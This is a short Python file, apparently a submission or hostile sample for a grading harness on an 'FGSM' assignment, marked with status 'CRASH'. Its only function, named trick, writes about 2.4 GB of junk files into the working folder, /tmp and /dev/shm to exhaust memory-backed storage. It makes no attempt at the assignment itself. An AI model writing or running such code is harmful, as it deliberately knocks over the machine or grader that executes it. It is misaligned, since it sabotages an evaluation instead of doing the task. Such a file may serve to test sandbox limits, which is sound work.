"""Fills every memory-backed folder it can write to.

assignment: a3-fgsm
base: identity
runs: in a call
status: CRASH
"""

import os

def trick():
    for folder in (".", "/tmp", "/dev/shm"):
        for number in range(40):
            with open(f"{folder}/block-{number}", "wb") as file:
                file.write(b"1" * (20 << 20))
